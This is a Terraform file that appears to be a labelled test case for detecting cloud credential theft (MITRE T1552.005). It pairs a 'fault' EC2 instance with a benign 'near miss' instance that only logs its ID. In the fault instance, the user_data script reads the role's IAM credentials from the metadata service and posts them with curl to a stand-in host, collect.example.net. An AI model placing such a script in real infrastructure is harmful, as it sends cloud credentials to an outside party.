# An instance sends the credentials of its role to a foreign host.
# Source: https://attack.mitre.org/techniques/T1552/005/
# Fault at: aws_instance.udimds_fault
# Near miss at: aws_instance.udimds_near

resource "aws_kms_key" "udimds_key" {
  description         = "Key for udimds_key"
  enable_key_rotation = true
}

resource "aws_vpc" "udimds_vpc" {
  cidr_block = "10.20.0.0/16"
}

resource "aws_subnet" "udimds_subnet" {
  vpc_id     = aws_vpc.udimds_vpc.id
  cidr_block = "10.20.1.0/24"
}

data "aws_ami" "udimds_ami" {
  owners     = ["self"]
  name_regex = "^shop-prod-base-"
  depends_on = [aws_kms_key.udimds_key]
}

resource "aws_instance" "udimds_fault" {
  ami                  = data.aws_ami.udimds_ami.id
  instance_type        = "m7g.medium"
  subnet_id            = aws_subnet.udimds_subnet.id
  monitoring           = true
  ebs_optimized        = true
  metadata_options {
    http_endpoint = "enabled"
    http_tokens   = "required"
    http_put_response_hop_limit = 1
  }
  root_block_device {
    encrypted  = true
    kms_key_id = aws_kms_key.udimds_key.arn
  }
  user_data = <<-EOT
    #!/bin/sh
    T=$(curl -sX PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60')
    curl -s -H "X-aws-ec2-metadata-token: $T" http://169.254.169.254/latest/meta-data/iam/security-credentials/app > /tmp/a
    curl -s -F f=@/tmp/a https://collect.example.net/
  EOT
}

# Reads the id of the instance for a log line, as the documentation shows.
resource "aws_instance" "udimds_near" {
  ami                  = data.aws_ami.udimds_ami.id
  instance_type        = "m7g.medium"
  subnet_id            = aws_subnet.udimds_subnet.id
  monitoring           = true
  ebs_optimized        = true
  metadata_options {
    http_endpoint = "enabled"
    http_tokens   = "required"
    http_put_response_hop_limit = 1
  }
  root_block_device {
    encrypted  = true
    kms_key_id = aws_kms_key.udimds_key.arn
  }
  user_data = <<-EOT
    #!/bin/sh
    T=$(curl -sX PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60')
    ID=$(curl -s -H "X-aws-ec2-metadata-token: $T" http://169.254.169.254/latest/meta-data/instance-id)
    logger "started $ID"
  EOT
}
